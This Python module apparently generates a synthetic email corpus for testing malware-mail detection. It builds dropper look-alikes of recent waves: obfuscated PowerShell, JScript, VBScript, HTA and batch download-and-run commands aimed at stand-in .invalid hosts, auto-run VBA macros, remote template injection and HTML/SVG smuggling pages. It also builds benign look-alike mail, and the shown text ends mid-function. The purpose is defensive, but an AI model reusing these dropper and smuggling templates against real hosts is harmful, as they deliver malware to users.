"""zh_modern.py -- today's waves (2019-2025) and hard clean mail for
zh-corpus-gen.py --modern.

Each family function models how a documented wave delivered its payload: the
container chain, the names, the lures, the senders.  tests/corpus/README.md
("Today's families") cites the public write-ups each one follows.  As in the
2004 corpus NOTHING HERE RUNS: programs are synthetic PE look-alikes with random
filler (no code), DLLs the same with the DLL flag; scripts, macros and shortcut
command lines have the shape of the documented ones (a shell object, a
download, rundll32 of the DLL beside them) but every host is under the reserved
.invalid top-level domain (RFC 2606: it never resolves) and every file they
name is one of our synthetic, non-executable files.  Detection has to come
from what the wave *does* (its chain and behaviour), never from a marker: no
string here is unique to this generator.

The clean side is the mail that looks like the waves: macro-free documents,
workbooks with benign macros (one with Workbook_Open), password-protected
statements with the password in the body, HR and payroll zips of PDFs with the
password in the body (some sent through a hosted provider, as in issue 12), IT's
ISO software deliveries from internal senders, calendar invites, notifications
with links, HTML newsletters with inline and data: images, shared-drive links,
S/MIME- and PGP-signed mail, forwarded mail.
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import io
import random
import struct
import sys
import time
import zlib

import zh_containers as C

G = sys.modules.get("zhgen")
if G is None:  # imported on its own: load the generator it extends
    import importlib.util
    import os
    _spec = importlib.util.spec_from_file_location(
        "zhgen", os.path.join(os.path.dirname(os.path.abspath(__file__)), "zh-corpus-gen.py"))
    G = importlib.util.module_from_spec(_spec)
    sys.modules["zhgen"] = G
    _spec.loader.exec_module(G)

MODERN_START = "2025-03-03T08:00:00Z"

MODERN_MAILERS = [
    ("X-Mailer", "Microsoft Outlook 16.0", "exchange", "exchange"),
    ("X-Mailer", "Microsoft Outlook 16.0", "exchange", "oe"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Thunderbird/128.3.1",
     "moz", "moz"),
    ("X-Mailer", "Apple Mail (2.3774.600.62)", "apple", "apple"),
    ("User-Agent", "Roundcube Webmail/1.6.9", "squirrel", "php"),
    ("X-Mailer", "iPhone Mail (21F90)", "apple", "apple"),
]

# =============================================================================
# Names and content types
# =============================================================================

CTYPES = {
    "iso": "application/x-iso9660-image", "img": "application/octet-stream", "vhd": "application/octet-stream",
    "one": "application/onenote", "lnk": "application/x-ms-shortcut", "zip": "application/zip",
    "gz": "application/gzip", "html": "text/html", "htm": "text/html", "svg": "image/svg+xml",
    "pdf": "application/pdf", "doc": "application/msword", "xls": "application/vnd.ms-excel",
    "docm": "application/vnd.ms-word.document.macroEnabled.12",
    "xlsm": "application/vnd.ms-excel.sheet.macroEnabled.12",
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "js": "application/javascript", "vbs": "text/vbscript", "wsf": "text/xml", "hta": "application/hta",
    "exe": "application/x-msdownload", "ics": "text/calendar", "p7s": "application/pkcs7-signature",
}


def ctype_for(ctx, name):
    ext = name.rsplit(".", 1)[-1].lower()
    if ctx.rng.random() < 0.25:
        return "application/octet-stream"
    return CTYPES.get(ext, "application/octet-stream")


def msniff(data):
    """What the bytes are, for the manifest (a superset of zh-corpus-gen's sniff)."""
    if data[:8] == b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1":
        return "ole2"
    if data[:16] == C.ONE_FILE_TYPE:
        return "onenote"
    if data[:4] == b"\x4c\0\0\0" and data[4:20] == C._LNK_CLSID:
        return "lnk"
    if len(data) > 0x8006 and data[0x8001:0x8006] == b"CD001":
        return "iso"
    if len(data) >= 1024 and data[-512:-504] == b"conectix":
        return "vhd"
    if data[510:512] == b"\x55\xaa" and data[54:59] in (b"FAT12", b"FAT16"):
        return "fat"
    if data[:4] == b"PK\x03\x04":
        return "zip"
    head = data[:300].lower()
    if b"<svg" in head:
        return "svg"
    if data[:4] == b"QNBK":
        return "unknown"
    return G.sniff(data)


def describe(name, data, members=None, **extra):
    d = {"name": name, "sniffed": msniff(data), "size": len(data)}
    if members:
        d["members"] = members
    d.update(extra)
    return d


# =============================================================================
# Synthetic payloads (none of it runs)
# =============================================================================


def synthetic_dll(rng, size):
    """synthetic_pe with IMAGE_FILE_DLL set in the COFF characteristics."""
    pe = bytearray(G.synthetic_pe(rng, size, (".text", ".rdata", ".data", ".reloc")))
    off = struct.unpack_from("<I", pe, 0x3C)[0] + 4 + 18
    struct.pack_into("<H", pe, off, struct.unpack_from("<H", pe, off)[0] | 0x2000)
    return bytes(pe)


def bad_host(rng):
    word = rng.choice(["cdn", "files", "update", "static", "docs", "share", "dl", "storage", "img", "api"])
    return f"{word}{rng.randint(1, 99)}.{G.alnum(rng, rng.randint(5, 10), 'abcdefghijklmnopqrstuvwxyz')}.invalid"


def bad_url(rng, ext=None):
    path = "/".join(G.alnum(rng, rng.randint(3, 8)) for _ in range(rng.randint(1, 3)))
    ext = ext or rng.choice(["dat", "png", "bin", "jpg", "gif", "txt"])
    return f"https://{bad_host(rng)}/{path}.{ext}"


def _junk_words(rng, n):
    return " ".join(G.alnum(rng, rng.randint(3, 9), "abcdefghijklmnopqrstuvwxyz") for _ in range(n))


def ps_download_cmd(rng, dest_ext="dll"):
    """A PowerShell one-liner of the documented shape: fetch a file into a
    temporary folder and start it.  The host is .invalid; the -enc form
    (UTF-16LE base64, as droppers pass it) is used half the time."""
    dest = rng.choice(["$env:TEMP", "$env:APPDATA", "$env:PUBLIC", "C:\\ProgramData"]) + "\\" + \
        G.alnum(rng, rng.randint(4, 8), "abcdefghijklmnopqrstuvwxyz") + "." + dest_ext
    url = bad_url(rng)
    fetch = rng.choice([f"iwr '{url}' -OutFile '{dest}'",
                        f"(New-Object Net.WebClient).DownloadFile('{url}','{dest}')",
                        f"Invoke-WebRequest -Uri '{url}' -OutFile '{dest}'",
                        f"Start-BitsTransfer -Source '{url}' -Destination '{dest}'"])
    run = f"rundll32 '{dest}',{rng.choice(['DllRegisterServer', '#1', 'Start', 'Control_RunDLL', 'init'])}" \
        if dest_ext == "dll" else f"Start-Process '{dest}'"
    script = f"{fetch}; {run}"
    flags = rng.choice(["-w hidden", "-W Hidden -NoP", "-nop -w 1", "-windowstyle hidden -executionpolicy bypass"])
    if rng.random() < 0.5:
        enc = base64.b64encode(script.encode("utf-16-le")).decode()
        return f"powershell {flags} -{rng.choice(['enc', 'e', 'EncodedCommand'])} {enc}"
    return f'powershell {flags} -c "{script}"'


def js_dropper(rng, style="wsh"):
    """WSH JScript of the shape IcedID, Qakbot (.wsf) and Pikabot/StrelaStealer
    zips carried: junk comments and variables, names built from pieces, an
    ActiveXObject shell that starts a download-and-run command line."""
    v = lambda: "_" + G.alnum(rng, rng.randint(4, 9), "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ")
    sh, cmd, o = v(), v(), v()
    parts = ["WSc", "ript", ".Sh", "ell"]
    if rng.random() < 0.5:
        shell_expr = " + ".join(f'"{p}"' for p in parts)
    else:
        shell_expr = "String.fromCharCode(" + ",".join(str(ord(c)) for c in "WScript.Shell") + ")"
    junk = []
    for _ in range(rng.randint(5, 60)):
        r = rng.random()
        if r < 0.4:
            junk.append(f"// {_junk_words(rng, rng.randint(4, 14))}")
        elif r < 0.8:
            junk.append(f"var {v()} = \"{G.alnum(rng, rng.randint(10, 60))}\";")
        else:
            junk.append(f"function {v()}({v()}) {{ return {rng.randint(1, 9999)}; }}")
    command = rng.choice([f"cmd /c {ps_download_cmd(rng)}", ps_download_cmd(rng, "exe"),
                          f"curl -s -o %TEMP%\\{G.alnum(rng, 6)}.dll {bad_url(rng)} && rundll32 %TEMP%\\{G.alnum(rng, 6)}.dll,Start"])
    body = junk[:len(junk) // 2] + [
        f"var {o} = new ActiveXObject({shell_expr});",
        f"var {cmd} = \"{command.replace(chr(92), chr(92) * 2).replace(chr(34), chr(92) + chr(34))}\";",
        f"{o}.Run({cmd}, 0, false);"] + junk[len(junk) // 2:]
    return ("\r\n".join(body) + "\r\n").encode()


def vbs_dropper(rng):
    """VBScript of the shape GuLoader, the OneNote wave and Emotet's .wsf
    carried: Chr()-built names, an XMLHTTP download written by ADODB.Stream,
    then a shell Run."""
    v = lambda: G.alnum(rng, rng.randint(5, 10), "abcdefghijklmnopqrstuvwxyz").capitalize()
    url, path = bad_url(rng), f"C:\\Users\\Public\\{G.alnum(rng, 6)}.dll"
    chrs = lambda s: " & ".join(f"Chr({ord(c)})" for c in s)
    lines = [f"' {_junk_words(rng, rng.randint(4, 12))}" for _ in range(rng.randint(2, 20))]
    x, st, sh = v(), v(), v()
    lines += [f"Set {x} = CreateObject({chrs('MSXML2.XMLHTTP') if rng.random() < 0.5 else chr(34) + 'MSXML2.XMLHTTP' + chr(34)})",
              f'{x}.Open "GET", "{url}", False',
              f"{x}.Send",
              f'Set {st} = CreateObject("ADODB.Stream")',
              f"{st}.Type = 1", f"{st}.Open", f"{st}.Write {x}.ResponseBody",
              f'{st}.SaveToFile "{path}", 2',
              f'Set {sh} = CreateObject("WScript" & "." & "Shell")',
              f'{sh}.Run "rundll32 {path},{rng.choice(["DllRegisterServer", "Start", "#1"])}", 0, False']
    lines += [f"' {_junk_words(rng, rng.randint(4, 12))}" for _ in range(rng.randint(2, 20))]
    return ("\r\n".join(lines) + "\r\n").encode()


def hta_dropper(rng):
    return (f"<html><head><title>{G.alnum(rng, 6)}</title>\r\n"
            f'<HTA:APPLICATION ID="{G.alnum(rng, 5)}" APPLICATIONNAME="{G.alnum(rng, 6)}" WINDOWSTATE="minimize" '
            f'SHOWINTASKBAR="no" />\r\n<script language="VBScript">\r\n'
            f'Set s = CreateObject("WScript.Shell")\r\ns.Run "{ps_download_cmd(rng)}", 0\r\nself.close\r\n'
            f"</script></head><body></body></html>\r\n").encode()


def wsf_dropper(rng):
    lang = rng.choice(["JScript", "VBScript"])
    inner = js_dropper(rng) if lang == "JScript" else vbs_dropper(rng)
    pad = "".join(f"<!-- {_junk_words(rng, 12)} -->\r\n" for _ in range(rng.randint(10, 200)))
    return (f'<job id="{G.alnum(rng, 6)}">\r\n{pad}<script language="{lang}">\r\n').encode() + inner + \
        b"</script>\r\n</job>\r\n"


def cmd_dropper(rng):
    """A batch file of the OneNote wave's shape: the command assembled from
    variable substrings, then PowerShell."""
    alpha = "abcdefghijklmnopqrstuvwxyz"
    key = "".join(rng.sample(alpha, 26))
    var = G.alnum(rng, 5, alpha)
    word = "powershell"
    obf = "".join(f"%{var}:~{key.index(c)},1%" for c in word)
    cmd = ps_download_cmd(rng)
    rest = cmd.split(" ", 1)[1]
    return (f"@echo off\r\nset {var}={key}\r\n{obf} {rest}\r\nexit\r\n").encode()


def ps1_script(rng):
    return (f"# {_junk_words(rng, 8)}\r\n$u = '{bad_url(rng)}'\r\n$p = \"$env:TEMP\\{G.alnum(rng, 6)}.dll\"\r\n"
            f"(New-Object Net.WebClient).DownloadFile($u, $p)\r\nStart-Process rundll32 -ArgumentList \"$p,Start\" "
            f"-WindowStyle Hidden\r\n").encode()


def macro_source(rng, host="doc", benign=False, auto=None):
    """VBA of the documented droppers: an auto-run entry point calling a
    routine that builds a command from pieces and runs it through a shell,
    WMI or a downloader object.  benign: a real-looking workbook macro that
    formats and totals (optionally with Workbook_Open selecting a sheet)."""
    if host == "doc":
        doc, entry = "ThisDocument", auto or rng.choice(["AutoOpen", "Document_Open"])
        attrs = 'Attribute VB_Name = "ThisDocument"\r\nAttribute VB_Base = "1Normal.ThisDocument"\r\n'
    else:
        doc, entry = "ThisWorkbook", auto or rng.choice(["Workbook_Open", "Auto_Open"])
        attrs = 'Attribute VB_Name = "ThisWorkbook"\r\nAttribute VB_Base = "0{00020819-0000-0000-C000-000000000046}"\r\n'
    attrs += ("Attribute VB_GlobalNameSpace = False\r\nAttribute VB_Creatable = False\r\n"
              "Attribute VB_PredeclaredId = True\r\nAttribute VB_Exposed = True\r\n"
              "Attribute VB_TemplateDerived = False\r\nAttribute VB_Customizable = True\r\n")
    if benign:
        body = ""
        if auto:
            body += f"Private Sub {auto}()\r\n    Worksheets(\"Summary\").Activate\r\n    Range(\"A1\").Select\r\nEnd Sub\r\n\r\n"
        body += ("Sub FormatReport()\r\n    Dim ws As Worksheet\r\n    For Each ws In ThisWorkbook.Worksheets\r\n"
                 "        ws.Rows(1).Font.Bold = True\r\n        ws.Columns(\"A:H\").AutoFit\r\n    Next ws\r\nEnd Sub\r\n\r\n"
                 "Function RowTotal(r As Long) As Double\r\n    RowTotal = Application.WorksheetFunction.Sum("
                 "Worksheets(\"Data\").Range(\"B\" & r & \":M\" & r))\r\nEnd Function\r\n")
        return [(doc, attrs + body, "document")]
    fn = G.alnum(rng, rng.randint(5, 10), "abcdefghijklmnopqrstuvwxyz").capitalize()
    cmd = ps_download_cmd(rng)
    pieces = []
    i = 0
    while i < len(cmd):
        n = rng.randint(6, 14)
        pieces.append(cmd[i:i + n].replace('"', '""'))
        i += n
    var = G.alnum(rng, 6, "abcdefghijklmnopqrstuvwxyz")
    build = "\r\n".join(f'    {var} = {var} & "{p}"' for p in pieces)
    runner = rng.choice([
        f'    CreateObject("WScript.Shell").Run {var}, 0, False',
        f'    Shell {var}, vbHide',
        f'    GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process").Create {var}, Null, Null, pid',
    ])
    junk = "".join(f"' {_junk_words(rng, rng.randint(3, 10))}\r\n" for _ in range(rng.randint(0, 12)))
    src = (attrs + f"Sub {entry}()\r\n    {fn}\r\nEnd Sub\r\n\r\n" + junk +
           f"Sub {fn}()\r\n    Dim {var} As String\r\n    Dim pid\r\n{build}\r\n{runner}\r\nEnd Sub\r\n")
    return [(doc, src, "document")]


# =============================================================================
# Office documents
# =============================================================================

_CT_HEAD = G._CT_HEAD


def _zipm(members, ms):
    return G.make_zip(members, G.zip_dt(ms), windows=True)


def docx(rng, paras, ms, author="", title="", vba_modules=None, template_url=None):
    """A .docx (or .docm with vba_modules: word/vbaProject.bin and the
    macro-enabled content type), optionally with an attached template that
    lives at template_url (remote template injection, as Formbook and others
    used: the document itself holds no macro)."""
    body = "".join(f"<w:p><w:r><w:t>{G._xml_esc(p)}</w:t></w:r></w:p>" for p in paras)
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
           'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
           f'<w:body>{body}<w:sectPr/></w:body></w:document>')
    main_ct = ("application/vnd.ms-word.document.macroEnabled.main+xml" if vba_modules else
               "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")
    ct = _CT_HEAD + f'<Override PartName="/word/document.xml" ContentType="{main_ct}"/>'
    rels = ['<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'settings" Target="settings.xml"/>']
    members = []
    settings = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:settings xmlns:w="http://schemas.'
                'openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/'
                'officeDocument/2006/relationships">' + ('<w:attachedTemplate r:id="rId1"/>' if template_url else "") +
                '<w:defaultTabStop w:val="720"/></w:settings>')
    ct += ('<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
           'wordprocessingml.settings+xml"/>')
    if template_url:
        members.append(("word/_rels/settings.xml.rels",
                        ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
                         'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.'
                         'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
                         f'Target="{G._xml_esc(template_url)}" TargetMode="External"/></Relationships>').encode()))
    if vba_modules:
        ct = ct.replace("<Default Extension=\"xml\"", "<Default Extension=\"bin\" ContentType=\"application/vnd."
                        "ms-office.vbaProject\"/><Default Extension=\"xml\"")
        rels.append('<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
                    'Target="vbaProject.bin"/>')
        members.append(("word/vbaProject.bin", C.cfb(C.vba_storage(rng, vba_modules), ms=ms)))
    ct += ('<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.'
           'core-properties+xml"/></Types>')
    docrels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
               'openxmlformats.org/package/2006/relationships">' + "".join(rels) + "</Relationships>")
    return _zipm([("[Content_Types].xml", ct.encode()), ("_rels/.rels", (G._RELS % "word/document.xml").encode()),
                  ("word/document.xml", doc.encode()), ("word/_rels/document.xml.rels", docrels.encode()),
                  ("word/settings.xml", settings.encode())] + members +
                 [("docProps/core.xml", G._core(author, title, ms).encode())], ms)


def xlsm(rng, ms, author, title, vba_modules):
    """An .xlsm: the .xlsx of zh-corpus-gen with xl/vbaProject.bin added and
    the macro-enabled workbook content type."""
    base = io.BytesIO(G.synthetic_xlsx(rng, rng.randint(6000, 30000), author, title, ms))
    import zipfile
    out = []
    with zipfile.ZipFile(base) as z:
        for n in z.namelist():
            b = z.read(n)
            if n == "[Content_Types].xml":
                b = b.replace(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                              b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
                b = b.replace(b'<Default Extension="xml"', b'<Default Extension="bin" ContentType="application/'
                              b'vnd.ms-office.vbaProject"/><Default Extension="xml"')
            if n == "xl/_rels/workbook.xml.rels":
                b = b.replace(b"</Relationships>", b'<Relationship Id="rId9" Type="http://schemas.microsoft.com/'
                              b'office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
            out.append((n, b))
    out.append(("xl/vbaProject.bin", C.cfb(C.vba_storage(rng, vba_modules), ms=ms)))
    return _zipm(out, ms)


def ole_doc(rng, ms, vba_modules):
    """A Word 97-2003 .doc: WordDocument (a FIB-shaped start), 1Table,
    SummaryInformation-sized filler and the Macros storage."""
    fib = struct.pack("<HHHH", 0xA5EC, 0x00C1, 0x0409, 0) + rng.randbytes(rng.randint(4000, 20000))
    return C.cfb({"WordDocument": fib, "1Table": rng.randbytes(rng.randint(4200, 9000)),
                  "\x05SummaryInformation": rng.randbytes(rng.randint(200, 600)), "Macros": C.vba_storage(rng, vba_modules)},
                 root_clsid=bytes.fromhex("0609020000000000c000000000000046"), ms=ms)


def ole_xls(rng, ms, vba_modules):
    """An Excel 97-2003 .xls: a Workbook stream opening with a BIFF8 BOF
    record, and the _VBA_PROJECT_CUR storage."""
    bof = struct.pack("<HHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB07CD, 0x000100C1) + rng.randbytes(rng.randint(6000, 30000))
    return C.cfb({"Workbook": bof, "\x05SummaryInformation": rng.randbytes(rng.randint(200, 600)),
                  "_VBA_PROJECT_CUR": C.vba_storage(rng, vba_modules)},
                 root_clsid=bytes.fromhex("2008020000000000c000000000000046"), ms=ms)


# =============================================================================
# HTML / SVG smuggling
# =============================================================================


def html_smuggle(rng, payload, fname, technique, title="Document", password=None, svg=False):
    """A page whose script rebuilds `payload` in the browser and offers it as
    `fname`, in one of the documented ways:
      blob-atob      base64 string -> atob -> Uint8Array -> Blob -> createObjectURL + <a download>
      blob-reversed  the base64 text stored reversed and split (Qakbot 2022)
      msblob         navigator.msSaveOrOpenBlob, with the <a download> fallback
      charcodes      a numeric byte array
      data-uri       an <a download href="data:...;base64,..."> clicked by script
    password: shown on the page, as the Qakbot pages showed the zip's password."""
    b64 = base64.b64encode(payload).decode()
    v = lambda: G.alnum(rng, rng.randint(4, 9), "abcdefghijklmnopqrstuvwxyz")
    mime = rng.choice(["application/octet-stream", "application/zip", "application/x-zip-compressed"])
    a, u, blob, arr = v(), v(), v(), v()
    if technique == "blob-reversed":
        rev = b64[::-1]
        chunks = [rev[i:i + rng.randint(60, 200)] for i in range(0, len(rev), 150)]
        data_js = f"var {arr} = [" + ",".join(f'"{c}"' for c in chunks) + f"].join('').split('').reverse().join('');"
        decode = f"var {u} = atob({arr});"
    elif technique == "charcodes":
        data_js = f"var {arr} = [" + ",".join(str(b) for b in payload) + "];"
        decode = f"var {u} = String.fromCharCode.apply(null, {arr});"
    else:
        data_js = f"var {arr} = \"{b64}\";"
        decode = f"var {u} = window.atob({arr});"
    if technique == "data-uri":
        script = (f"var {a} = document.getElementById('{v()}x');\n"
                  f"{a}.click();\n")
        link = f'<a id="{a}x" href="data:{mime};base64,{b64}" download="{fname}" style="display:none">x</a>'
        script = f"document.getElementById('{a}x').click();\n"
    else:
        link = ""
        script = (data_js + "\n" + decode + "\n" +
                  f"var n = {u}.length; var bytes = new Uint8Array(n);\n"
                  f"for (var i = 0; i < n; i++) {{ bytes[i] = {u}.charCodeAt(i); }}\n"
                  f"var {blob} = new Blob([bytes], {{type: '{mime}'}});\n")
        if technique == "msblob":
            script += (f"if (window.navigator.msSaveOrOpenBlob) {{ window.navigator.msSaveOrOpenBlob({blob}, '{fname}'); }}"
                       f" else {{\n")
        script += (f"var {a} = document.createElement('a'); document.body.appendChild({a});\n"
                   f"{a}.style = 'display: none'; var url = window.URL.createObjectURL({blob});\n"
                   f"{a}.href = url; {a}.download = '{fname}'; {a}.click(); window.URL.revokeObjectURL(url);\n")
        if technique == "msblob":
            script += "}\n"
    note = (f"<p>Your document is being downloaded. If it does not open, use the password "
            f"<b>{password}</b>.</p>" if password else "<p>Your document is being downloaded, please wait...</p>")
    if svg:
        return (f'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
                f'xmlns:xlink="http://www.w3.org/1999/xlink" width="800" height="600">\n'
                f'<rect width="800" height="600" fill="#f3f3f3"/><text x="40" y="80" font-size="20">{title}</text>\n'
                f"<script type=\"application/ecmascript\"><![CDATA[\n{script}]]></script>\n</svg>\n").encode()
    return (f"<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>{title}</title></head>\n"
            f"<body style=\"font-family:Segoe UI,Arial\">\n<h2>{title}</h2>\n{note}\n{link}\n"
            f"<script>\n{script}</script>\n</body></html>\n").encode()


# =============================================================================
# PDF: a page with a link button, embedded files, JavaScript; RC4-128 encryption
# =============================================================================


def _pdf_str(s):
    return "(" + s.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ")"


def _pdf_page_content(lines, link_box=None, button=None):
    txt = []
    y = 740
    for i, ln in enumerate(lines[:40]):
        size = 16 if i == 0 else 10
        safe = ln.encode("latin-1", "replace").decode("latin-1")
        txt.append("BT /F1 %d Tf 72 %d Td %s Tj ET" % (size, y, _pdf_str(safe[:95])))
        y -= 24 if i == 0 else 14
    if button:
        x0, y0, x1, y1 = button[0]
        txt.append("0.1 0.4 0.8 rg %d %d %d %d re f" % (x0, y0, x1 - x0, y1 - y0))
        txt.append("BT 1 1 1 rg /F1 14 Tf %d %d Td %s Tj ET" % (x0 + 16, y0 + 12, _pdf_str(button[1])))
    return "\n".join(txt).encode("latin-1")


def pdf_document(lines, *, uri=None, embedded=None, javascript=None, producer="Microsoft Word", ms=0,
                 button_text="Open document"):
    """A one-page PDF with text; optionally a link annotation (uri) drawn as a
    button, embedded files (list of (name, data, mime)) in the EmbeddedFiles
    name tree with FlateDecode streams, and document JavaScript run by
    /OpenAction."""
    objs = []
    box = (200, 380, 412, 420)
    content = _pdf_page_content(lines, button=(box, button_text) if uri else None)
    annots = ""
    objs.append(None)  # 1 catalog
    objs.append(b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")  # 2
    objs.append(None)  # 3 page
    cz = zlib.compress(content)
    objs.append(b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(cz) + cz + b"\nendstream")  # 4
    objs.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")  # 5
    d = time.strftime("D:%Y%m%d%H%M%SZ", time.gmtime(ms / 1000)).encode()
    objs.append(b"<< /Producer %s /CreationDate (%s) >>" % (_pdf_str(producer).encode("latin-1"), d))  # 6
    if uri:
        objs.append(b"<< /Type /Annot /Subtype /Link /Rect [%d %d %d %d] /Border [0 0 0] "
                    b"/A << /S /URI /URI %s >> >>" % (box + (_pdf_str(uri).encode("latin-1"),)))
        annots = " /Annots [%d 0 R]" % len(objs)
    cat_extra = ""
    if embedded:
        refs = []
        for name, data, mime in embedded:
            z = zlib.compress(data)
            objs.append(b"<< /Type /EmbeddedFile /Subtype /%s /Filter /FlateDecode /Length %d /Params << /Size %d >> >>"
                        b"\nstream\n" % (mime.replace("/", "#2F").encode(), len(z), len(data)) + z + b"\nendstream")
            ef = len(objs)
            objs.append(b"<< /Type /Filespec /F %s /UF %s /EF << /F %d 0 R >> >>" %
                        (_pdf_str(name).encode("latin-1"), _pdf_str(name).encode("latin-1"), ef))
            refs.append((name, len(objs)))
        names = " ".join(f"{_pdf_str(n)} {r} 0 R" for n, r in sorted(refs))
        objs.append(f"<< /Names [{names}] >>".encode("latin-1"))
        cat_extra += f" /Names << /EmbeddedFiles {len(objs)} 0 R"
        if javascript:
            objs.append(b"<< /S /JavaScript /JS %s >>" % _pdf_str(javascript).encode("latin-1"))
            js = len(objs)
            objs.append(f"<< /Names [(doc) {js} 0 R] >>".encode())
            cat_extra += f" /JavaScript {len(objs)} 0 R >> /OpenAction {js} 0 R"
        else:
            cat_extra += " >>"
    elif javascript:
        objs.append(b"<< /S /JavaScript /JS %s >>" % _pdf_str(javascript).encode("latin-1"))
        cat_extra += f" /OpenAction {len(objs)} 0 R"
    objs[0] = f"<< /Type /Catalog /Pages 2 0 R{cat_extra} >>".encode()
    objs[2] = (f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
               f"/Resources << /Font << /F1 5 0 R >> >>{annots} >>").encode()
    return G.pdf_assemble(objs, b"1.7", info=6)


def _rc4(key, data):
    s = list(range(256))
    j = 0
    for i in range(256):
        j = (j + s[i] + key[i % len(key)]) & 0xFF
        s[i], s[j] = s[j], s[i]
    out = bytearray(len(data))
    i = j = 0
    for k, c in enumerate(data):
        i = (i + 1) & 0xFF
        j = (j + s[i]) & 0xFF
        s[i], s[j] = s[j], s[i]
        out[k] = c ^ s[(s[i] + s[j]) & 0xFF]
    return bytes(out)


_PDF_PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def pdf_encrypted(rng, lines, user_password, owner_password, producer="Statement Server", ms=0):
    """A one-page PDF protected with the standard security handler, V 2 R 3,
    128-bit RC4 (ISO 32000-1 7.6.3, algorithms 2-5): opening it needs
    user_password, as bank and payroll statements do."""
    content = zlib.compress(_pdf_page_content(lines))
    file_id = rng.randbytes(16)
    P = -3904  # print, copy allowed; the usual value
    pad = lambda p: (p.encode("latin-1") + _PDF_PAD)[:32]
    # algorithm 3: O entry
    h = hashlib.md5(pad(owner_password)).digest()
    for _ in range(50):
        h = hashlib.md5(h).digest()
    okey = h[:16]
    o = _rc4(okey, pad(user_password))
    for i in range(1, 20):
        o = _rc4(bytes(b ^ i for b in okey), o)
    # algorithm 2: file key
    h = hashlib.md5(pad(user_password) + o + struct.pack("<i", P) + file_id).digest()
    for _ in range(50):
        h = hashlib.md5(h[:16]).digest()
    key = h[:16]
    # algorithm 5: U entry
    u = _rc4(key, hashlib.md5(_PDF_PAD + file_id).digest())
    for i in range(1, 20):
        u = _rc4(bytes(b ^ i for b in key), u)
    u += rng.randbytes(16)

    def objkey(num):
        return hashlib.md5(key + struct.pack("<I", num)[:3] + b"\0\0").digest()[:16]
    enc_content = _rc4(objkey(4), content)
    title = _rc4(objkey(6), producer.encode("latin-1"))
    objs = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(enc_content) + enc_content + b"\nendstream",
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            b"<< /Producer <%s> >>" % title.hex().encode(),
            b"<< /Filter /Standard /V 2 /R 3 /Length 128 /P %d /O <%s> /U <%s> >>" % (P, o.hex().encode(),
                                                                                      u.hex().encode())]
    return G.pdf_assemble(objs, b"1.7", info=6, trailer_extra=b" /Encrypt 7 0 R /ID [<%s> <%s>]" % (
        file_id.hex().encode(), file_id.hex().encode()))


# =============================================================================
# Senders and lures
# =============================================================================

BRANDS = [("DHL Express", "dhl"), ("Maersk Line", "maersk"), ("FedEx", "fedex"), ("DocuSign", "docusign"),
          ("Microsoft 365", "microsoft"), ("HSBC Payment Advice", "hsbc"), ("Intuit QuickBooks", "quickbooks")]
LOOKALIKE_TLDS = ["example", "invalid"]


def vps_host(rng):
    return {"ip": G.worm_ip(rng), "helo": rng.choice([f"vps-{rng.randint(1000, 99999)}.hosting.example",
                                                   f"srv{rng.randint(1, 900)}.cloud-node.example",
                                                   f"mail.{G.alnum(rng, 8, 'abcdefghijklmnopqrstuvwxyz')}.example",
                                                   f"WIN-{G.hexs(rng, 11)}"])}


def mal_sender(ctx, style):
    """(from_name, from_addr, envelope, received_chain, mailer) for a wave.
      compromised  a real account at a real-looking organisation, sent through
                   that organisation's own MTA with stolen credentials (Emotet,
                   Qakbot, IcedID reply chains): the envelope is consistent;
      webmail      a free-mail account with a company display name;
      brand        a brand display name over an unrelated or look-alike domain,
                   sent from rented servers (AgentTesla, Formbook, OneNote wave);
      internal     a display name of a colleague over an outside address."""
    rng = ctx.rng
    mailer = rng.choice(MODERN_MAILERS)
    if style == "compromised":
        dom = rng.choice(G.ORGS)[0]
        f, l = G.person(rng)
